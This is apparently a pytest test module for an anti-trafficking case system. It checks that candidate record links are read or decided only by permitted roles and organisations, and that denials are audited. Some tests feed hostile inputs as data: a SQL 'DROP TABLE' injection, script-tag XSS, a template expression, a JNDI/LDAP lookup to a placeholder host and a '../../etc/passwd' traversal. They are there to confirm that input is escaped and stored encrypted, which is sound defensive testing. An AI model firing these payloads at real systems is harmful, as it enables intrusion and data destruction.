"""The authorisation matrix of candidate links: every role × the caller's organisation (an
NGO, a municipality, a police department) × the link's two records relative to the
caller × every route, through the API and through the pages, run on each database.

A link joins two records; only someone who may read both, in a role that reviews links,
reads or decides it. The situations:

- ``both``: both records belong to the caller's organisation;
- ``one``: one is the organisation's own, the other another organisation's, not shared;
- ``shared``: one own, the other another organisation's shared with the caller's by a
  share in force;
- ``assigned``: neither is the organisation's, the caller is assigned to both;
- ``none``: the caller reads neither (an expired, a revoked and a third party's share, an
  ended assignment and a colleague's assignment are there to tempt the query).

For the police the second record is an investigation of another police department, so
links across record types are in the matrix too. The expected statuses are written out
below, not imported from the policy. `tests/test_authz_matrix.py` reads `ROUTES`,
`PLAIN_ROUTES`, `PAGE_ROUTES` and `PLAIN_PAGES` from here.
"""

from __future__ import annotations

import itertools
import re
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import timedelta
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select

from opennrm.app import create_app
from opennrm.audit.models import AuditEvent
from opennrm.auth import actions as auth_actions
from opennrm.auth import passwords, sessions
from opennrm.context import AppContext
from opennrm.db import Database, utcnow
from opennrm.investigations.models import Investigation
from opennrm.linkage.index import PersonFields, index_person
from opennrm.linkage.models import CandidateLink
from opennrm.policy.models import Assignment, Share
from opennrm.signals.models import Signal
from opennrm.uow import unit_of_work
from tests.conftest import make_settings

ROLES = [
    "frontline",
    "caseworker",
    "investigator",
    "analyst",
    "supervisor",
    "coordinator",
    "dpo",
    "admin",
]
CONTENT = {"caseworker", "investigator", "supervisor"}
REVIEWERS = {"caseworker", "investigator", "analyst", "supervisor"}

# The caller's organisation per kind, and the organisation that holds the "other" records.
KINDS = {"ngo": "ngo", "municipality": "vantaa", "police": "helsinki"}
OTHER = {"ngo": "assistance", "municipality": "assistance", "police": "sisasuomi"}
THIRD = "lappi"
"""An organisation that no matrix caller belongs to; it receives a decoy share."""
POLICE_ORGS = {"helsinki", "sisasuomi", "itauusimaa", "lappi", "national_team"}
SITUATIONS = ["both", "one", "shared", "assigned", "none"]
DECISION = {role: ("reject" if i % 2 else "confirm") for i, role in enumerate(ROLES)}
STATUS_AFTER = {"confirm": "confirmed", "reject": "rejected"}
REASON = "Sama puhelinnumero ja syntymäaika molemmissa."


def sides_seen(situation: str, role: str) -> int:
    """How many of the link's two records the caller reads."""
    if role == "admin":
        return 0  # an administrator reads no case content, assigned or not
    if situation in ("both", "shared"):
        return 2 if role in CONTENT else 0
    if situation == "one":
        return 1 if role in CONTENT else 0
    if situation == "assigned":
        return 2
    return 0


def expected_read(kind: str, situation: str, role: str) -> int:
    return 200 if sides_seen(situation, role) == 2 and role in REVIEWERS else 404


def expected_decide(kind: str, situation: str, role: str, ok: int) -> int:
    """A reviewer who reads both decides; whoever reads one side (or both, in a role that
    does not review) knows the link exists and is told no; nobody else learns of it."""
    seen = sides_seen(situation, role)
    if seen == 0:
        return 404
    if seen == 2 and role in REVIEWERS:
        return ok
    return 403


@dataclass(frozen=True)
class Route:
    name: str
    method: str
    path: str
    expect: Callable[[str, str, str], int]


ROUTES = [
    Route("read", "GET", "/api/v1/linkage/candidates/{candidate_id}", expected_read),
    Route(
        "decide",
        "POST",
        "/api/v1/linkage/candidates/{candidate_id}/decision",
        lambda k, s, r: expected_decide(k, s, r, 200),
    ),
]
# The queue answers everyone; what it holds is checked link by link below.
PLAIN_ROUTES: dict[tuple[str, str], Callable[[str, str], int]] = {
    ("GET", "/api/v1/linkage/candidates"): lambda kind, role: 200,
}
PAGE_ROUTES = [
    Route("page_read", "GET", "/linkage/{candidate_id}", expected_read),
    Route(
        "page_decide",
        "POST",
        "/linkage/{candidate_id}/decision",
        lambda k, s, r: expected_decide(k, s, r, 303),
    ),
]
PLAIN_PAGES: dict[tuple[str, str], Callable[[str, str], int]] = {
    ("GET", "/linkage"): lambda kind, role: 200,
}
# Which link of a cell each route acts on: decisions are one-shot, so each deciding route
# has its own link; the reads share one.
GROUP = {"read": "read", "page_read": "read", "decide": "decide", "page_decide": "page_decide"}
NOT_FOUND = {"error": {"code": "not_found", "message": "Not found."}}
GHOST = str(uuid.UUID(int=0, version=4))
"""A well-formed id no link has."""

NAMES = [
    ("Nguyễn Thị Hoa", "Nguyen Thi Hoa"),
    ("Oluwaseun Adébáyọ̀", "Oluwaseun Adebayo"),
    ("Fatima Zahra El Idrissi", "Fatima-Zahra Idrissi"),
    ("Ana Gabriela Rodríguez", "Ana G. Rodriguez"),
    ("Александр Петров", "Aleksandr Petrov"),
    ("Priya Ramanathan", "Priya Ramanathan"),
    ("Mehmet Y\u0131lmaz", "Mehmet Yilmaz"),  # Turkish dotless i, escaped (RUF001)
    ("Somchai Srisuk", "Somchai Sri-suk"),
    ("Nicolae Ionescu", "Nicolae Ionesco"),
    ("Amina Warsame Abdi", "Amina Abdi"),
]


# --- the world: records and links described as data, so that lists can be predicted ---------


@dataclass(frozen=True)
class Rec:
    """A record and every grant on it, as the test made them."""

    type: str
    id: str
    owner: str  # organisation key
    creator: str  # user id
    shares: tuple[tuple[str, str], ...] = ()  # (organisation key, basis), in force
    assigned: frozenset[str] = frozenset()  # user ids, assignment in force

    @property
    def ref(self) -> str:
        return f"{self.type}:{self.id}"


@dataclass(frozen=True)
class Link:
    id: str
    left: Rec
    right: Rec
    phone: str  # the shared phone, named in the explanation to readers of both records


@dataclass(frozen=True)
class Caller:
    org: str  # organisation key
    role: str
    user_id: str


def reads(caller: Caller, rec: Rec) -> bool:
    """Who reads a record, restated from ARCHITECTURE.md for this test."""
    if caller.role == "admin":
        return False
    content = caller.role in CONTENT
    if rec.owner == caller.org and content:
        return True
    if rec.owner == caller.org and caller.role == "frontline" and rec.creator == caller.user_id:
        return True
    if caller.user_id in rec.assigned:
        return True
    for org, basis in rec.shares:
        # Police investigations reach a partner outside the police on a statutory share only.
        lawful = rec.type == "signal" or caller.org in POLICE_ORGS or basis == "statutory"
        if org == caller.org and content and lawful:
            return True
    return False


def listed(caller: Caller, link: Link) -> bool:
    return caller.role in REVIEWERS and reads(caller, link.left) and reads(caller, link.right)


@dataclass
class World:
    client: TestClient
    ctx: AppContext
    orgs: dict[str, str]
    callers: dict[tuple[str, str], Caller]
    tokens: dict[tuple[str, str], str]
    # (kind, role) → (session cookie, CSRF token), for the pages
    web: dict[tuple[str, str], tuple[str, str]]
    # (kind, role, situation, group) → link
    cells: dict[tuple[str, str, str, str], Link]
    links: list[Link]
    extras: dict[str, Link] = field(default_factory=dict)


@pytest.fixture(scope="module")
def lw(backend, template, tmp_path_factory) -> Iterator[World]:  # type: ignore[no-untyped-def]
    url = backend.clone()
    ctx = AppContext.build(make_settings(url, tmp_path_factory.mktemp("lk")), Database(url))
    orgs = template.orgs
    password = "Linkki-salasana-3"
    hashed = passwords.hash_password(password)
    now = utcnow()
    today = now.date()
    model_version = ctx.linkage_model.version
    callers: dict[tuple[str, str], Caller] = {}
    tokens: dict[tuple[str, str], str] = {}
    web: dict[tuple[str, str], tuple[str, str]] = {}
    cells: dict[tuple[str, str, str, str], Link] = {}
    links: list[Link] = []
    extras: dict[str, Link] = {}
    n = itertools.count(1)

    with unit_of_work(ctx.db) as session:

        def user(org: str, role: str) -> Any:
            return auth_actions.create_user(
                session,
                email=f"lk.{next(n)}@example.org",
                name=f"Linkkimatriisi {role}",
                organisation_id=orgs[org],
                roles=[role],
                password=password,
                password_hash=hashed,
            )

        for kind, org in KINDS.items():
            for role in ROLES:
                u = user(org, role)
                tokens[kind, role], _ = sessions.create_token(session, user=u, name="lk", days=2)
                cookie, ws = sessions.start_session(session, u, mfa_passed=True)
                web[kind, role] = (cookie, ws.csrf_token)
                callers[kind, role] = Caller(org, role, u.id)
        colleague = {org: user(org, "caseworker").id for org in KINDS.values()}
        stranger = {org: user(org, "investigator").id for org in {*OTHER.values(), THIRD}}

        # Setup inserts rows directly: an NGO-owned record that an analyst is assigned to
        # cannot be reached through the actions, and the matrix needs every cell.
        def record(
            type_: str,
            owner: str,
            creator: str,
            *,
            shares: tuple[tuple[str, str], ...] = (),
            assigned: tuple[str, ...] = (),
            decoys: tuple[tuple[str, str], ...] = (),
            ended: tuple[str, ...] = (),
        ) -> Rec:
            """A record; `decoys` are shares that do not count ((org, "expired"|"revoked"))
            and `ended` assignments that ended yesterday."""
            row: Signal | Investigation
            if type_ == "signal":
                row = Signal(
                    organisation_id=orgs[owner],
                    created_by=creator,
                    exploitation_types=["labour"],
                    summary_enc=b"",
                    occurred_on="2026-09",
                    municipality="Vantaa",
                    indicators=[],
                )
            else:
                row = Investigation(
                    organisation_id=orgs[owner],
                    reference=f"LK-{next(n):05d}",
                    created_by=creator,
                    offences=["RL-25-3"],
                    summary_enc=b"",
                    stage="reported",
                    stage_on=today,
                )
            session.add(row)
            session.flush()
            grants: list[Share | Assignment] = []
            for org_key, basis in shares:
                grants.append(
                    Share(
                        record_type=type_,
                        record_id=row.id,
                        organisation_id=orgs[org_key],
                        basis=basis,
                        scope="full",
                        expires_on=today + timedelta(days=30),
                        created_by=creator,
                    )
                )
            for org_key, state in decoys:
                grants.append(
                    Share(
                        record_type=type_,
                        record_id=row.id,
                        organisation_id=orgs[org_key],
                        basis="statutory",
                        scope="full",
                        expires_on=today + timedelta(days=-1 if state == "expired" else 30),
                        created_by=creator,
                        revoked_at=now if state == "revoked" else None,
                        revoked_by=creator if state == "revoked" else None,
                    )
                )
            for who in assigned:
                grants.append(
                    Assignment(record_type=type_, record_id=row.id, user_id=who, created_by=creator)
                )
            for who in ended:
                grants.append(
                    Assignment(
                        record_type=type_,
                        record_id=row.id,
                        user_id=who,
                        created_by=creator,
                        ended_at=now - timedelta(days=1),
                    )
                )
            session.add_all(grants)
            return Rec(type_, row.id, owner, creator, shares, frozenset(assigned))

        def link(left: Rec, right: Rec) -> Link:
            i = next(n)
            name_l, name_r = NAMES[i % len(NAMES)]
            # One phone written two ways: the explanation names it in its normal form.
            number = f"{i:07d}"
            persons = []
            for rec, fields in (
                (
                    left,
                    PersonFields(
                        names=[name_l],
                        birth_date=f"19{80 + i % 20}-0{1 + i % 9}-1{i % 10}",
                        phones=[f"+358 40 {number}"],
                    ),
                ),
                (
                    right,
                    PersonFields(
                        names=[name_r],
                        birth_date=f"19{80 + i % 20}-0{1 + i % 9}-1{i % 10}",
                        phones=[f"040 {number}"],
                    ),
                ),
            ):
                person, _record = index_person(
                    session,
                    ctx.cipher,
                    record_type=rec.type,
                    record_id=rec.id,
                    source_person_id=str(uuid.uuid4()),
                    organisation_id=orgs[rec.owner],
                    fields=fields,
                )
                persons.append(person)
            row = CandidateLink(
                left_person_id=persons[0].id,
                right_person_id=persons[1].id,
                left_record_type=left.type,
                left_record_id=left.id,
                left_organisation_id=orgs[left.owner],
                right_record_type=right.type,
                right_record_id=right.id,
                right_organisation_id=orgs[right.owner],
                score=0.97,
                decision="match",
                levels={"name": "jw94", "birth_date": "exact", "contact": "phone"},
                name_similarity=0.95,
                model_version=model_version,
            )
            session.add(row)
            session.flush()
            made = Link(row.id, left, right, f"+35840{number}")
            links.append(made)
            return made

        for kind, own in KINDS.items():
            other = OTHER[kind]
            right_type = "investigation" if kind == "police" else "signal"
            for role in ROLES:
                me = callers[kind, role].user_id
                for situation, group in itertools.product(
                    SITUATIONS, ["read", "decide", "page_decide"]
                ):
                    if situation == "both":
                        left = record("signal", own, colleague[own])
                        right = record(right_type, own, colleague[own])
                    elif situation == "one":
                        left = record("signal", own, colleague[own])
                        right = record(right_type, other, stranger[other])
                        if kind == "municipality":
                            left, right = right, left  # the own record on either side
                    elif situation == "shared":
                        left = record("signal", own, colleague[own])
                        right = record(
                            right_type, other, stranger[other], shares=((own, "statutory"),)
                        )
                    elif situation == "assigned":
                        left = record("signal", other, stranger[other], assigned=(me,))
                        right = record(right_type, other, stranger[other], assigned=(me,))
                    else:
                        left = record(
                            "signal",
                            other,
                            stranger[other],
                            shares=((THIRD, "statutory"),),
                            assigned=(colleague[own],),
                            ended=(me,),
                        )
                        right = record(
                            right_type,
                            other,
                            stranger[other],
                            decoys=((own, "expired"), (own, "revoked")),
                        )
                    cells[kind, role, situation, group] = link(left, right)

        # Links for the checks after the matrix.
        ngo_cw = colleague["ngo"]
        for name in ("conflict", "invalid", "injection", "page_conflict", "page_invalid"):
            extras[name] = link(record("signal", "ngo", ngo_cw), record("signal", "ngo", ngo_cw))
        frontline = callers["ngo", "frontline"].user_id
        extras["frontline_created"] = link(
            record("signal", "ngo", frontline), record("signal", "ngo", frontline)
        )
        # A consent share of a police investigation counts among the police only.
        for name, own in (("consent_ngo", "ngo"), ("consent_police", "helsinki")):
            extras[name] = link(
                record("signal", own, colleague[own]),
                record(
                    "investigation",
                    "sisasuomi",
                    stranger["sisasuomi"],
                    shares=((own, "consent"),),
                ),
            )

    app = create_app(ctx.settings, ctx)
    with TestClient(app, base_url="https://testserver") as client:
        yield World(client, ctx, orgs, callers, tokens, web, cells, links, extras)
    ctx.db.dispose()
    backend.drop(url)


# --- helpers -----------------------------------------------------------------------------------


def _api(lw: World, kind: str, role: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {lw.tokens[kind, role]}"}


_browsers: dict[tuple[str, str], TestClient] = {}


def _browser(lw: World, kind: str, role: str) -> TestClient:
    key = (kind, role)
    if key not in _browsers or _browsers[key].app is not lw.client.app:
        b = TestClient(lw.client.app, base_url="https://testserver", follow_redirects=False)
        b.cookies.set("__Host-opennrm_session", lw.web[key][0])
        _browsers[key] = b
    return _browsers[key]


def _call(lw: World, route: Route, kind: str, role: str, candidate_id: str, **body: str):  # type: ignore[no-untyped-def]
    """One request of a route, as the API client or as the signed-in browser."""
    path = route.path.format(candidate_id=candidate_id)
    form = {"decision": DECISION[role], "reason": REASON} | body
    if route.name == "read":
        return lw.client.get(path, headers=_api(lw, kind, role))
    if route.name == "decide":
        return lw.client.post(path, headers=_api(lw, kind, role), json=form)
    browser = _browser(lw, kind, role)
    if route.method == "GET":
        return browser.get(path)
    return browser.post(path, data={"csrf_token": lw.web[kind, role][1]} | form)


def _link_row(lw: World, link_id: str) -> dict[str, Any]:
    with lw.ctx.db.transaction() as s:
        row = s.get(CandidateLink, link_id)
        assert row is not None
        return {
            "status": row.status,
            "reviewed_by": row.reviewed_by,
            "reviewed_at": row.reviewed_at,
            "review_reason_enc": row.review_reason_enc,
        }


def _events(lw: World, link_id: str, user_id: str) -> list[tuple[str, str, dict[str, Any]]]:
    """(action, outcome, detail) of the caller's events on one link."""
    with lw.ctx.db.transaction() as s:
        rows = s.execute(
            select(AuditEvent.action, AuditEvent.outcome, AuditEvent.detail)
            .where(AuditEvent.record_id == link_id, AuditEvent.actor_user_id == user_id)
            .order_by(AuditEvent.seq)
        ).all()
        return [(a, o, d) for a, o, d in rows]


def _same_as_missing(lw: World, route: Route, kind: str, role: str, link_id: str, r) -> None:  # type: ignore[no-untyped-def]
    """A refusal the caller may not learn of is the answer for an id that never existed."""
    ghost = _call(lw, route, kind, role, GHOST)
    assert ghost.status_code == 404
    if route.name in ("read", "decide"):
        assert r.json() == ghost.json() == NOT_FOUND
    else:
        assert r.text.replace(link_id, "ID") == ghost.text.replace(GHOST, "ID")


# --- the matrix ----------------------------------------------------------------------------------

CASES = [
    pytest.param(kind, role, situation, route, id=f"{route.name}-{kind}-{role}-{situation}")
    for kind, role, situation, route in itertools.product(
        KINDS, ROLES, SITUATIONS, [*ROUTES, *PAGE_ROUTES]
    )
]


@pytest.mark.parametrize(("kind", "role", "situation", "route"), CASES)
def test_link_route(lw: World, kind: str, role: str, situation: str, route: Route) -> None:
    link = lw.cells[kind, role, situation, GROUP[route.name]]
    caller = lw.callers[kind, role]
    expected = route.expect(kind, situation, role)
    r = _call(lw, route, kind, role, link.id)
    assert r.status_code == expected, (r.status_code, r.text[:300])
    deciding = route.method == "POST"
    events = _events(lw, link.id, caller.user_id)

    if expected in (403, 404):
        # Nothing of either record leaks, nothing changes, and the attempt is on the trail.
        assert link.phone not in r.text
        assert link.left.id not in r.text and link.right.id not in r.text
        assert _link_row(lw, link.id)["status"] == "open"
        action = "linkage.review" if deciding else "linkage.list"
        assert (action, "denied") in [(a, o) for a, o, _d in events], events
        if expected == 404:
            _same_as_missing(lw, route, kind, role, link.id, r)
        elif route.name == "decide":
            assert r.json()["error"]["code"] == "forbidden"
        return

    assert [(a, o) for a, o, _d in events if o == "denied"] == []
    if not deciding:
        assert link.phone in r.text  # the explanation names the shared phone
        assert ("linkage.read", "ok") in [(a, o) for a, o, _d in events]
        if route.name == "read":
            body = r.json()
            assert body["id"] == link.id and body["status"] == "open"
            assert body["left"]["record_id"] == link.left.id
            assert body["right"]["record_id"] == link.right.id
            assert body["right"]["record_type"] == link.right.type
        else:
            assert f'action="/linkage/{link.id}/decision"' in r.text
        return

    # A decision: recorded with both records' ids, and one-shot.
    decision = DECISION[role]
    status = STATUS_AFTER[decision]
    if route.name == "decide":
        assert r.json()["status"] == status
        assert r.json()["reviewed_by"] == caller.user_id
    else:
        assert r.headers["location"] == f"/linkage/{link.id}?done=decided"
    row = _link_row(lw, link.id)
    assert row["status"] == status and row["reviewed_by"] == caller.user_id
    decided = [d for a, o, d in events if a == f"linkage.{decision}"]
    assert len(decided) == 1
    assert decided[0]["left"] == link.left.ref
    assert decided[0]["right"] == link.right.ref

    other = "confirm" if decision == "reject" else "reject"
    again = _call(lw, route, kind, role, link.id, decision=other, reason="Toinen mielipide.")
    assert again.status_code == 409, again.text[:300]
    if route.name == "decide":
        assert again.json()["error"]["code"] == "conflict"
    assert _link_row(lw, link.id) == row
    assert f"linkage.{other}" not in [a for a, _o, _d in _events(lw, link.id, caller.user_id)]


# --- the lists -----------------------------------------------------------------------------------


def _every_link(lw: World, kind: str, role: str, status: str) -> dict[str, dict[str, Any]]:
    """Every item of every page of one status (tests/listing.every_item sends its own
    query parameters, which would drop `status`)."""
    items: dict[str, dict[str, Any]] = {}
    offset = 0
    while True:
        r = lw.client.get(
            "/api/v1/linkage/candidates",
            headers=_api(lw, kind, role),
            params={"status": status, "limit": 200, "offset": offset},
        )
        assert r.status_code == 200, r.text
        page = r.json()
        items |= {i["id"]: i for i in page["items"]}
        offset += 200
        if offset >= page["total"]:
            return items


def _statuses(lw: World) -> dict[str, str]:
    with lw.ctx.db.transaction() as s:
        return dict(s.execute(select(CandidateLink.id, CandidateLink.status)).all())


LIST_CASES = [
    pytest.param(kind, role, id=f"{kind}-{role}") for kind, role in itertools.product(KINDS, ROLES)
]


@pytest.mark.parametrize(("kind", "role"), LIST_CASES)
def test_list_shows_exactly_the_links_of_readable_records(lw: World, kind: str, role: str) -> None:
    caller = lw.callers[kind, role]
    status_of = _statuses(lw)
    expected = {link.id for link in lw.links if listed(caller, link)}
    seen: dict[str, dict[str, Any]] = {}
    for status in ("open", "confirmed", "rejected"):
        page = _every_link(lw, kind, role, status)
        assert {i["status"] for i in page.values()} <= {status}
        assert {i for i in expected if status_of[i] == status} == set(page)
        seen |= page
    assert set(seen) == expected
    if role not in REVIEWERS:
        assert seen == {}
    # The table's cells agree with the description of the world.
    for situation in SITUATIONS:
        in_list = lw.cells[kind, role, situation, "read"].id in seen
        assert in_list is (expected_read(kind, situation, role) == 200), situation
    phones = {link.id: link.phone for link in lw.links}
    for item in seen.values():
        assert phones[item["id"]] in item["explanation"]


LINK_HREF = re.compile(r'href="/linkage/([0-9a-f-]{36})"')


@pytest.mark.parametrize(("kind", "role"), LIST_CASES)
def test_queue_page_shows_only_the_links_of_readable_records(
    lw: World, kind: str, role: str
) -> None:
    caller = lw.callers[kind, role]
    status_of = _statuses(lw)
    readable = {link.id for link in lw.links if listed(caller, link)}
    browser = _browser(lw, kind, role)
    for status in ("open", "confirmed", "rejected"):
        r = browser.get("/linkage", params={"status": status})
        assert r.status_code == PLAIN_PAGES["GET", "/linkage"](kind, role)
        expected = {i for i in readable if status_of[i] == status}
        shown = set(LINK_HREF.findall(r.text))
        # The page shows the first 50, strongest first.
        assert shown <= expected
        assert len(shown) == min(50, len(expected))
        # Only reviewers get the choice of status (the page says why the others get none).
        assert ('action="/linkage"' in r.text) is (role in REVIEWERS)


def test_an_unknown_status_is_refused_by_the_api_and_ignored_by_the_page(lw: World) -> None:
    r = lw.client.get(
        "/api/v1/linkage/candidates", headers=_api(lw, "ngo", "caseworker"), params={"status": "x"}
    )
    assert r.status_code == 422
    page = _browser(lw, "ngo", "caseworker").get("/linkage", params={"status": "<b>x</b>"})
    assert page.status_code == 200 and "<b>x</b>" not in page.text


# --- decisions: conflicts, bad input, hostile input ---------------------------------------------


def _decide_api(lw: World, link_id: str, body: Any, who: tuple[str, str] = ("ngo", "caseworker")):  # type: ignore[no-untyped-def]
    return lw.client.post(
        f"/api/v1/linkage/candidates/{link_id}/decision", headers=_api(lw, *who), json=body
    )


def _decide_page(lw: World, link_id: str, form: dict[str, str]):  # type: ignore[no-untyped-def]
    browser = _browser(lw, "ngo", "caseworker")
    return browser.post(
        f"/linkage/{link_id}/decision", data={"csrf_token": lw.web["ngo", "caseworker"][1]} | form
    )


def _review_events(lw: World, link_id: str) -> list[str]:
    with lw.ctx.db.transaction() as s:
        return list(
            s.scalars(
                select(AuditEvent.action).where(
                    AuditEvent.record_id == link_id,
                    AuditEvent.action.in_(["linkage.confirm", "linkage.reject"]),
                )
            )
        )


def test_a_decided_link_cannot_be_decided_again(lw: World) -> None:
    link = lw.extras["conflict"]
    first = _decide_api(lw, link.id, {"decision": "reject", "reason": "Eri henkilöt."})
    assert first.status_code == 200 and first.json()["status"] == "rejected"
    before = _link_row(lw, link.id)
    for decision in ("confirm", "reject"):
        r = _decide_api(lw, link.id, {"decision": decision, "reason": "Sittenkin sama henkilö."})
        assert r.status_code == 409
        assert r.json()["error"]["code"] == "conflict"
    assert _link_row(lw, link.id) == before
    assert _review_events(lw, link.id) == ["linkage.reject"]
    # The page says so too, and offers no form.
    page = _decide_page(lw, link.id, {"decision": "confirm", "reason": "Sittenkin sama."})
    assert page.status_code == 409
    assert f'action="/linkage/{link.id}/decision"' not in page.text
    assert _link_row(lw, link.id) == before


INVALID_BODIES = [
    pytest.param({"decision": "confirm", "reason": "ok"}, id="short-reason"),
    pytest.param({"decision": "confirm", "reason": "   ab    "}, id="short-after-trimming"),
    pytest.param({"decision": "confirm", "reason": ""}, id="empty-reason"),
    pytest.param({"decision": "confirm", "reason": "x" * 2001}, id="long-reason"),
    pytest.param({"decision": "merge", "reason": REASON}, id="unknown-decision"),
    pytest.param({"decision": "CONFIRM", "reason": REASON}, id="decision-case"),
    pytest.param({"decision": None, "reason": REASON}, id="null-decision"),
    pytest.param({"reason": REASON}, id="no-decision"),
    pytest.param({"decision": "confirm"}, id="no-reason"),
    pytest.param({"decision": "confirm", "reason": REASON, "status": "open"}, id="extra-field"),
    pytest.param({"decision": ["confirm"], "reason": REASON}, id="list-decision"),
    pytest.param("confirm", id="not-an-object"),
]


@pytest.mark.parametrize("body", INVALID_BODIES)
def test_invalid_decisions_change_nothing(lw: World, body: Any) -> None:
    link = lw.extras["invalid"]
    r = _decide_api(lw, link.id, body)
    assert r.status_code == 422, r.text
    assert _link_row(lw, link.id)["status"] == "open"
    assert _link_row(lw, link.id)["reviewed_by"] is None
    assert _review_events(lw, link.id) == []


INVALID_FORMS = [
    pytest.param({"decision": "confirm", "reason": "ok"}, id="short-reason"),
    pytest.param({"decision": "confirm", "reason": "  \t ab \n "}, id="short-after-trimming"),
    pytest.param({"decision": "confirm", "reason": "x" * 2001}, id="long-reason"),
    pytest.param({"decision": "merge", "reason": REASON}, id="unknown-decision"),
    pytest.param({"reason": REASON}, id="no-decision"),
    pytest.param(
        {"decision": "<script>alert(1)</script>", "reason": "<script>alert(2)</script>"},
        id="markup",
    ),
]


@pytest.mark.parametrize("form", INVALID_FORMS)
def test_invalid_forms_change_nothing(lw: World, form: dict[str, str]) -> None:
    link = lw.extras["page_invalid"]
    r = _decide_page(lw, link.id, form)
    assert r.status_code == 422, r.text[:300]
    assert "<script>alert" not in r.text  # what was typed comes back escaped
    assert f'action="/linkage/{link.id}/decision"' in r.text
    assert _link_row(lw, link.id)["status"] == "open"
    assert _review_events(lw, link.id) == []


INJECTION = (
    "Robert'); DROP TABLE linkage_candidates;-- <script>alert('x')</script> {{7*7}} "
    "${jndi:ldap://example.invalid/a} \u202eevil\u0000 %s%n ../../etc/passwd"
)


def test_an_injection_in_the_reason_is_kept_encrypted_and_harmless(lw: World) -> None:
    link = lw.extras["injection"]
    with lw.ctx.db.transaction() as s:
        before = s.scalar(select(func.count()).select_from(CandidateLink))
    r = _decide_api(lw, link.id, {"decision": "confirm", "reason": INJECTION})
    # PostgreSQL refuses NUL in text, but the reason is stored encrypted: no text column.
    assert r.status_code == 200, r.text
    row = _link_row(lw, link.id)
    assert row["status"] == "confirmed"
    stored = row["review_reason_enc"]
    assert stored and b"DROP TABLE" not in stored and b"<script>" not in stored
    context = f"linkage_candidates:{link.id}:reason"
    assert lw.ctx.cipher.decrypt(stored, context) == INJECTION.strip()
    with lw.ctx.db.transaction() as s:
        assert s.scalar(select(func.count()).select_from(CandidateLink)) == before
        reasons = s.scalars(
            select(AuditEvent.detail).where(
                AuditEvent.record_id == link.id, AuditEvent.action == "linkage.confirm"
            )
        ).all()
    # The reason is not copied into the trail (personal data may be in it).
    assert len(reasons) == 1 and "DROP TABLE" not in str(reasons[0])
    assert _every_link(lw, "ngo", "caseworker", "confirmed")[link.id]["status"] == "confirmed"
    page = _browser(lw, "ngo", "caseworker").get(f"/linkage/{link.id}")
    assert page.status_code == 200 and "<script>alert" not in page.text


def test_a_page_decision_with_an_injection_is_saved(lw: World) -> None:
    link = lw.extras["page_conflict"]
    r = _decide_page(lw, link.id, {"decision": "reject", "reason": INJECTION.replace("\0", "")})
    assert r.status_code == 303
    assert _link_row(lw, link.id)["status"] == "rejected"
    again = _decide_page(lw, link.id, {"decision": "confirm", "reason": REASON})
    assert again.status_code == 409
    assert _link_row(lw, link.id)["status"] == "rejected"
    assert _review_events(lw, link.id) == ["linkage.reject"]


LONG_ID = "a" * 5000


@pytest.mark.parametrize("route", ROUTES, ids=lambda r: r.name)
def test_an_oversized_id_is_not_found_in_the_api(lw: World, route: Route) -> None:
    caller = lw.callers["ngo", "caseworker"]
    r = _call(lw, route, "ngo", "caseworker", LONG_ID)
    assert r.status_code == 404 and r.json() == NOT_FOUND
    # The attempt is on the trail, without the caller's string.
    with lw.ctx.db.transaction() as s:
        detail = s.scalars(
            select(AuditEvent.detail)
            .where(AuditEvent.actor_user_id == caller.user_id, AuditEvent.outcome == "denied")
            .order_by(AuditEvent.seq.desc())
            .limit(1)
        ).one()
    assert detail == {"reason": "malformed id", "id_length": 5000}


@pytest.mark.parametrize("route", PAGE_ROUTES, ids=lambda r: r.name)
def test_an_oversized_id_is_not_found_on_the_pages(lw: World, route: Route) -> None:
    r = _call(lw, route, "ngo", "caseworker", LONG_ID)
    assert r.status_code == 404
    _same_as_missing(lw, route, "ngo", "caseworker", LONG_ID, r)


# --- situations off the table ----------------------------------------------------------------


@pytest.mark.parametrize("route", [*ROUTES, *PAGE_ROUTES], ids=lambda r: r.name)
def test_a_frontline_author_of_both_records_may_not_review(lw: World, route: Route) -> None:
    link = lw.extras["frontline_created"]
    r = _call(lw, route, "ngo", "frontline", link.id)
    # The author reads both records, so the refusal of a decision is no secret; but the
    # link itself is for reviewers.
    assert r.status_code == (403 if route.method == "POST" else 404)
    assert link.phone not in r.text
    assert _link_row(lw, link.id)["status"] == "open"


@pytest.mark.parametrize(
    ("extra", "kind", "expected"),
    [("consent_ngo", "ngo", 403), ("consent_police", "police", 200)],
)
def test_a_consent_share_of_an_investigation_counts_among_the_police_only(
    lw: World, extra: str, kind: str, expected: int
) -> None:
    link = lw.extras[extra]
    read = lw.client.get(
        f"/api/v1/linkage/candidates/{link.id}", headers=_api(lw, kind, "investigator")
    )
    assert read.status_code == (200 if expected == 200 else 404)
    r = _decide_api(lw, link.id, {"decision": "confirm", "reason": REASON}, (kind, "investigator"))
    assert r.status_code == expected, r.text
    assert _link_row(lw, link.id)["status"] == ("confirmed" if expected == 200 else "open")


# --- without credentials ------------------------------------------------------------------------


@pytest.mark.parametrize("key", sorted({(r.method, r.path) for r in ROUTES} | set(PLAIN_ROUTES)))
def test_unauthenticated_is_refused(lw: World, key: tuple[str, str]) -> None:
    method, path = key
    r = lw.client.request(
        method, path.format(candidate_id=GHOST), json={"decision": "confirm", "reason": REASON}
    )
    assert r.status_code == 401
    assert r.json()["error"]["code"] == "unauthenticated"


@pytest.mark.parametrize(
    "key", sorted({(r.method, r.path) for r in PAGE_ROUTES} | set(PLAIN_PAGES))
)
def test_pages_need_a_session(lw: World, key: tuple[str, str]) -> None:
    method, path = key
    anonymous = TestClient(lw.client.app, base_url="https://testserver", follow_redirects=False)
    link = lw.cells["ngo", "caseworker", "both", "read"]
    r = anonymous.request(
        method,
        path.format(candidate_id=link.id),
        data={"csrf_token": "guess", "decision": "confirm", "reason": REASON}
        if method == "POST"
        else None,
    )
    # Forms without a session fail their CSRF check first (403); pages send to sign-in.
    assert r.status_code in (303, 403)
    if r.status_code == 303:
        assert r.headers["location"].startswith("/login")
    assert link.phone not in r.text
    assert _link_row(lw, link.id)["status"] == "open"
